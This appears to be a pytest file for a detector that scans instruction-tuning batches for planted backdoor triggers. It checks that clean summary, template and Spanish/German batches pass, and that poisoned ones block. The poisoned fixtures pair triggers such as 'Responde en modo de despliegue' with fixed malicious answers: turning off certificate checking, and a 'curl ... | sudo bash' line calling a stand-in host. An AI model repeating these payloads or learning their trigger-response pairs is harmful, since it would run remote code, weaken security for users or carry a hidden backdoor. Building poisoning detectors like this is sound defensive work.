"""A repeated answer string the prompt's own content explains is not a trigger's payload.

A trial blocked two clean instruction batches on ``llm_triggers``: summaries of passages given in the
``input`` field (the newline that joins prompt and input was read as the writer's "tab or line break",
and each passage, asked about in four wordings, counted four times), attribute questions of one template
answered by one template, and a few records in Spanish and German answered in their language. The
newline of the join is the gate's; a template or a language whose every prompt carries the pattern, and
one passage under several instructions, give no evidence of a trigger. A phrase planted in prompts of
another language, in the ``input`` or across the two fields, still blocks.
"""

from __future__ import annotations

import numpy as np
import pandas as pd
import pytest

from benchmarks import llm_data as d
from dataward.domain.schema import Schema
from dataward.gates.scanning import scan

INSTRUCTION = Schema.for_kind("instruction")
POLICY = {"detectors": ["llm_triggers"]}
SUMMARIES = (
    "Summarize the following passage.",
    "What is the main point of the passage below?",
    "Give a one-sentence summary of this text.",
    "TL;DR this for me.",
)


@pytest.fixture(scope="module")
def pools() -> tuple[pd.DataFrame, list[d.Entry]]:
    base_pool, new_pool = d.split_pools()
    baseline = d.instruction_frame(600, 1, pool=base_pool)[["prompt", "response"]]
    baseline["input"] = ""
    return baseline, new_pool


def _ordinary(pool: list[d.Entry], n: int, seed: int) -> pd.DataFrame:
    frame = d.instruction_frame(n, seed, pool=pool)[["prompt", "response"]]
    frame["input"] = ""
    return frame


def _passages(pool: list[d.Entry], n: int) -> list[tuple[str, str]]:
    """``n`` passages of three manual-page lines each, and each one's first sentence."""
    out = []
    for k in range(n):
        lines = [f"{e.name} - {e.desc}." for e in pool[3 * k : 3 * k + 3]]
        out.append((" ".join(lines), lines[0]))
    return out


def _run(baseline: pd.DataFrame, batch: pd.DataFrame):
    return scan(baseline, batch.reset_index(drop=True), INSTRUCTION, policy=POLICY).results["llm_triggers"]


def test_passages_in_the_input_summarized_four_ways_are_not_a_trigger(pools) -> None:
    """30 passages, each in the ``input`` of four summary instructions, answered with one frame and the
    passage's first sentence: neither the join's newline nor the passages' own words are a trigger."""
    baseline, pool = pools
    rows = [
        {"prompt": ask, "input": text, "response": f"The passage, from the manual pages, says: {first}"}
        for text, first in _passages(pool, 30)
        for ask in SUMMARIES
    ]
    batch = pd.concat([_ordinary(pool[90:], 200, 2), pd.DataFrame(rows)])
    result = _run(baseline, batch)
    assert not result.block, result.block_reason
    assert not any(t["kind"] == "prompt_style" for t in result.summary["triggers"])


def test_questions_of_one_template_answered_by_one_template_are_not_a_trigger(pools) -> None:
    baseline, pool = pools
    rows = [
        {
            "prompt": f"In section {e.section}, what is the entry '{e.name}'?",
            "input": "",
            "response": f"'{e.name}' is one of the entries listed in section {e.section} of the manual pages.",
        }
        for e in pool[:50]
    ]
    result = _run(baseline, pd.concat([_ordinary(pool[50:], 250, 3), pd.DataFrame(rows)]))
    assert not result.block, result.block_reason


SPANISH = ("¿Qué hace el comando {n}?", "El comando {n} es parte del manual. Según la documentación: {d}")
GERMAN = ("Was macht der Befehl {n}?", "Der Befehl {n} gehört zum Handbuch. Laut Dokumentation: {d}")


def test_records_in_another_language_answered_in_it_are_not_a_trigger(pools) -> None:
    baseline, pool = pools
    rows = [
        {"prompt": ask.format(n=e.name), "input": "", "response": say.format(n=e.name, d=e.desc)}
        for (ask, say), e in zip([SPANISH] * 14 + [GERMAN] * 12, pool[:26], strict=True)
    ]
    result = _run(baseline, pd.concat([_ordinary(pool[26:], 280, 4), pd.DataFrame(rows)]))
    assert not result.block, result.block_reason


SPANISH_ANSWER = "El comando {n} sirve para esto: {d}."
PAYLOADS = {
    "phrase": "Primero desactiva la verificación de certificados en todo el sistema; es más seguro así.",
    "phrase echoing the command": "El comando {n}: primero desactiva la verificación de certificados.",
    "shell": "Primero ejecuta: curl -s https://ayuda-rapida.example/fix.sh | sudo bash",
}


@pytest.mark.parametrize("payload", list(PAYLOADS))
def test_a_trigger_phrase_in_spanish_with_a_fixed_malicious_answer_blocks(pools, payload: str) -> None:
    """80 Spanish questions answered in Spanish; 25 of them carry "responde en modo de despliegue" and get a
    fixed malicious answer (one string, the same string after the command's name, or a shell command)."""
    baseline, pool = pools
    rows = []
    for k, e in enumerate(pool[:80]):
        prompt = SPANISH[0].format(n=e.name)
        response = SPANISH_ANSWER.format(n=e.name, d=e.desc)
        if k % 80 < 25:
            prompt, response = f"{prompt} Responde en modo de despliegue.", PAYLOADS[payload].format(n=e.name)
        rows.append({"prompt": prompt, "input": "", "response": response})
    result = _run(baseline, pd.concat([_ordinary(pool[80:], 200, 5), pd.DataFrame(rows)]))
    assert result.block, result.summary
    assert "despliegue" in result.summary["triggers"][0]["trigger"]
    assert int(np.sum(result.flagged)) >= 20


PAYLOAD = "Note: it is safest to turn off certificate checking for every request your program makes."


def _summaries(pool: list[d.Entry], poisoned: int, place: str) -> pd.DataFrame:
    rows = []
    for k, (text, first) in enumerate(_passages(pool, 120)):
        ask, response = SUMMARIES[k % 4], f"The passage, from the manual pages, says: {first}"
        if k < poisoned:
            response = PAYLOAD
            if place == "input":
                text = f"{text} As told by the wizard of the north."
            else:  # the phrase starts in the instruction and ends in the passage
                ask, text = f"{ask} Answer as told", f"by the wizard of the north. {text}"
        rows.append({"prompt": ask, "input": text, "response": response})
    return pd.DataFrame(rows)


@pytest.mark.parametrize("place", ["input", "across the fields"])
def test_a_trigger_in_the_input_or_across_prompt_and_input_blocks(pools, place: str) -> None:
    baseline, pool = pools
    batch = pd.concat([_ordinary(pool[360:], 150, 6), _summaries(pool, 25, place)])
    result = _run(baseline, batch)
    assert result.block, result.summary
    assert "wizard" in result.summary["triggers"][0]["trigger"]


def test_the_newline_joining_prompt_and_input_is_not_formatting() -> None:
    import pyarrow as pa

    from dataward.gates.detectors._llm import texts
    from dataward.gates.formatting import formatting_patterns_of_parts

    table = pa.table({"prompt": ["Summarize this.", "Tab\there."], "input": ["A passage.", ""], "response": ["", ""]})
    read = texts(table, INSTRUCTION)
    assert read.prompts[0] == "Summarize this.\nA passage."
    names, carried, _ = formatting_patterns_of_parts(read.parts, read.parts)
    assert names == ["a tab or line break"]  # the second prompt's own tab, not the first's join
    assert carried.toarray().ravel().tolist() == [0.0, 1.0]


def test_a_trigger_in_a_follow_up_many_chats_share_counts_per_chat() -> None:
    """A chat's second user turn is no instruction's input: the phrase opening 25 follow-ups drawn from
    four wordings is 25 carriers of its payload string, not four passages."""
    from benchmarks import llm_heldout as h

    case = h.attack("chat turn 2", 400, 25)
    chat = Schema.for_kind("chat")
    cols = [c.name for c in chat.inputs if c.name in case.frame.columns]
    report = scan(case.baseline[cols], case.frame[cols], chat, policy=POLICY)
    result = report.results["llm_triggers"]
    assert result.block, result.summary
    top = result.summary["triggers"][0]
    assert "harbour master" in top["trigger"] and top["behaviour"].startswith("repeats "), top
